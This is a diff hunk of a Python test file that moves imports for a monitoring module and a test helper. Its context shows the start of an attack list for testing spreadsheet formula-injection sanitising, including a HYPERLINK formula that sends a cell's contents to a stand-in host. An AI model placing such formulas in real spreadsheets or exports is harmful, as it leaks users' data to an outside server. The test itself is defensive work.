@@ -13,9 +13,10 @@ from dataclasses import replace
 
 import pytest
 
-from core import explorer, monitoring
+from core import monitoring
+from core.monitoring import explorer
 from core.text import FORMULA_STARTS, spreadsheet_safe
-from tests.core.test_monitoring import T0, rec
+from tests.core.monitoring.test_prediction_log import T0, rec
 
 ATTACKS = [
     '=HYPERLINK("http://x.example/?"&A1,"open")',
